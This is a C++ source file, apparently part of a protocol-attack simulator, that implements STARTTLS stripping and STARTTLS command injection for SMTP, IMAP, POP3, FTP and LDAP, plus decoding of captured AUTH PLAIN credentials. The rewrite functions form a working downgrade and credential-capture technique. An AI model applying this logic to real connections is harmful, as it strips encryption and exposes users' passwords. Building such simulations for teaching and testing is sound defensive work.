// strip-starttls and starttls-injection: table rows per protocol, each a small rewrite of
// one line's text. A line that does not have the expected shape is passed on untouched.
#include "core/engine/attacker_starttls.hpp"

#include <algorithm>
#include <iterator>
#include <string_view>
#include <vector>

#include "core/protocols/ber_codec.hpp"
#include "core/protocols/ldap.hpp"
#include "core/protocols/line_peer.hpp"

namespace hl {
namespace {

std::string text_of(const Bytes& bytes) { return std::string(bytes.begin(), bytes.end()); }
Bytes bytes_of(std::string_view text) { return Bytes(text.begin(), text.end()); }

// The CRLF-terminated lines of a reply, CRLF removed.
std::vector<std::string> split_lines(std::string_view text) {
  std::vector<std::string> lines;
  for (std::size_t len = line_len(text); len > 0; len = line_len(text)) {
    lines.emplace_back(text.substr(0, len - 2));
    text.remove_prefix(len);
  }
  return lines;
}

// ---- strip-starttls -----------------------------------------------------------------

// One rewrite: true when it changed the text; out_what says how, for her report.
using Rewrite = bool (*)(const Scenario& scenario, std::string& text, std::string& out_what);

// SMTP's EHLO reply: "250-host greets x", "250-STARTTLS", ..., "250 8BITMIME" (RFC 5321 §4.2.1).
// Without the STARTTLS line, and on submission with the AUTH line a server adds only inside TLS.
bool strip_smtp(const Scenario& scenario, std::string& text, std::string& out_what) {
  std::vector<std::string> lines = split_lines(text);
  auto keyword = [](const std::string& line) { return line.size() > 4 ? line.substr(4) : std::string(); };
  auto starttls = std::find_if(lines.begin(), lines.end(), [&](const auto& line) { return keyword(line) == "STARTTLS"; });
  if (lines.size() < 2 || starttls == lines.end()) return false;
  lines.erase(starttls);
  out_what = "removed STARTTLS from the server's EHLO reply";
  const bool relay = scenario.port == 25;
  const bool has_auth = std::any_of(lines.begin(), lines.end(), [&](const auto& line) { return keyword(line).starts_with("AUTH"); });
  if (!relay && !has_auth) {
    lines.insert(lines.end() - 1, "250-AUTH PLAIN LOGIN");
    out_what += " and added AUTH PLAIN LOGIN, which the server offers only inside TLS";
  }
  text.clear();
  for (std::size_t i = 0; i < lines.size(); ++i) text += lines[i].substr(0, 3) + (i + 1 < lines.size() ? "-" : " ") + keyword(lines[i]) + "\r\n";
  out_what += ": the client now sees a server without TLS";
  return true;
}

// IMAP's "* CAPABILITY IMAP4rev1 STARTTLS LOGINDISABLED" (RFC 9051 §7.2.2): without STARTTLS
// and LOGINDISABLED, with AUTH=PLAIN.
bool strip_imap(const Scenario&, std::string& text, std::string& out_what) {
  if (!text.starts_with("* CAPABILITY ") || text.find(" STARTTLS") == std::string::npos) return false;
  for (std::string_view word : {" STARTTLS", " LOGINDISABLED"}) {
    const std::size_t at = text.find(word);
    if (at != std::string::npos) text.erase(at, word.size());
  }
  const std::size_t end = text.find("\r\n");
  if (text.find(" AUTH=PLAIN") == std::string::npos) text.insert(end, " AUTH=PLAIN");
  out_what = "removed STARTTLS and LOGINDISABLED from the server's capabilities and added AUTH=PLAIN: the client "
             "now sees a server that takes a password in the clear";
  return true;
}

// POP3's CAPA list (RFC 2449 §5): without STLS, with USER and SASL PLAIN.
bool strip_pop3(const Scenario&, std::string& text, std::string& out_what) {
  const std::size_t stls = text.find("\r\nSTLS\r\n");
  if (!text.starts_with("+OK") || stls == std::string::npos) return false;
  text.erase(stls + 2, 6);
  if (text.find("\r\nUSER\r\n") == std::string::npos) text.insert(stls + 2, "USER\r\nSASL PLAIN\r\n");
  out_what = "removed STLS from the server's capability list and added USER and SASL PLAIN: the client now sees a "
             "server that takes a password in the clear";
  return true;
}

// FTP has no offer to remove (the client asks AUTH TLS straight away, RFC 4217 §4): she
// spoils the command so that the server's own error answers it.
bool strip_ftp(const Scenario&, std::string& text, std::string& out_what) {
  if (command_verb(text) != "AUTH" || command_argument(text) != "TLS") return false;
  text = "AUTH XXX\r\n";
  out_what = "changed the client's AUTH TLS into AUTH XXX: the server answers that it does not know the mechanism, "
             "and the client takes that as 'no TLS here'";
  return true;
}

// LDAP's StartTLS is an extended request named by an OID (RFC 4511 §4.14.1): she spoils the
// OID (same length, so no BER length changes) and the server answers with an error.
bool strip_ldap(const Scenario&, std::string& text, std::string& out_what) {
  const std::size_t at = text.find(ber::kStartTlsOid);
  if (at == std::string::npos) return false;
  const std::string_view arc = "20037";  // the OID's last arc
  text.replace(at + ber::kStartTlsOid.size() - arc.size(), arc.size(), "XXXXX");
  out_what = "changed the StartTLS request's OID (1.3.6.1.4.1.1466.20037 -> ...XXXXX): the server answers "
             "protocolError, and the client takes that as 'no TLS here'";
  return true;
}

struct StripRow {
  const char* protocol;
  Side from;  // whose line she rewrites
  Rewrite rewrite;
  const char* title;  // the rewritten line's display title; nullptr: the old one + " (rewritten)"
};
constexpr StripRow kStrips[] = {
    {"smtp", Side::server, strip_smtp, "250 (EHLO reply, rewritten)"},
    {"imap", Side::server, strip_imap, nullptr},
    {"pop3", Side::server, strip_pop3, nullptr},
    {"ftp", Side::client, strip_ftp, "AUTH XXX (rewritten)"},
    {"ldap", Side::client, strip_ldap, nullptr},
};

// ---- starttls-injection -------------------------------------------------------------

// The command she appends behind the client's upgrade command, per protocol.
struct InjectRow {
  const char* protocol;
  const char* upgrade;  // the upgrade command's unit, as the client's peer names it (IMAP's ends so)
  std::string (*command)();
};

std::string smtp_injection() { return "RSET\r\n"; }
std::string imap_injection() { return "m1 CAPABILITY\r\n"; }
std::string pop3_injection() { return "STAT\r\n"; }
std::string ftp_injection() { return "USER mallory\r\n"; }
std::string ldap_injection() {
  // An anonymous bind (RFC 4513 §5.1.1): empty name, empty simple password, message id 99.
  Bytes bind = ber::tlv(ber::kBindRequest, ber::concat({ber::tlv_int(ber::kInteger, 3), ber::tlv_text(ber::kOctetString, ""),
                                                        ber::tlv_text(ber::kSimpleAuth, "")}));
  return text_of(ldap_message(99, bind));
}

constexpr InjectRow kInjections[] = {
    {"smtp", "STARTTLS", smtp_injection}, {"imap", " STARTTLS", imap_injection},
    {"pop3", "STLS", pop3_injection},     {"ftp", "AUTH TLS", ftp_injection},
    {"ldap", "LDAP StartTLS request", ldap_injection},
};

const InjectRow* injection_row(const Scenario& scenario) {
  auto row = std::find_if(std::begin(kInjections), std::end(kInjections),
                          [&](const InjectRow& r) { return scenario.protocol == r.protocol; });
  return row == std::end(kInjections) ? nullptr : &*row;
}

std::string inject(const InjectRow& row, Step& step) {
  if (step.from != Side::client || !step.app_unit.ends_with(row.upgrade)) return "";
  const std::string command = row.command();
  step.bytes.insert(step.bytes.end(), command.begin(), command.end());
  step.title += " + injected";
  return "appended '" + printable(command) + "' behind the client's " + step.app_unit +
         ", in the same segment: a server that keeps it runs it as if it came inside TLS";
}

}  // namespace

std::string starttls_attack(const Scenario& scenario, Step& step) {
  if (step.kind != StepKind::app_line) return "";
  if (scenario.attack == Attack::starttls_injection) {
    const InjectRow* row = injection_row(scenario);
    return row == nullptr ? "" : inject(*row, step);
  }
  if (scenario.attack != Attack::strip_starttls) return "";
  auto row = std::find_if(std::begin(kStrips), std::end(kStrips), [&](const StripRow& r) {
    return scenario.protocol == r.protocol && step.from == r.from;
  });
  std::string text = text_of(step.bytes), what;
  if (row == std::end(kStrips) || !row->rewrite(scenario, text, what)) return "";
  step.bytes = bytes_of(text);
  step.title = row->title ? row->title : step.title + " (rewritten)";
  return what;
}

std::string command_behind_upgrade(const Scenario& scenario, const Step& step) {
  const InjectRow* row = injection_row(scenario);
  if (row == nullptr || step.kind != StepKind::app_line || step.from != Side::client || !step.app_unit.ends_with(row->upgrade))
    return "";
  return row->command();
}

std::string decoded_credentials(const Step& step) {
  const std::string line = text_of(step.bytes);
  if (step.kind != StepKind::app_line || command_verb(line) != "AUTH") return "";
  const std::string argument = command_argument(line);
  std::string decoded;
  if (command_verb(argument) != "PLAIN" || !base64_decode(command_argument(argument), decoded)) return "";
  // authzid NUL authcid NUL passwd (RFC 4616 §2)
  const std::size_t first = decoded.find('\0'), second = decoded.find('\0', first + 1);
  if (first == std::string::npos || second == std::string::npos) return "";
  return "AUTH PLAIN decodes to user " + decoded.substr(first + 1, second - first - 1) + ", password " +
         decoded.substr(second + 1);
}

}  // namespace hl
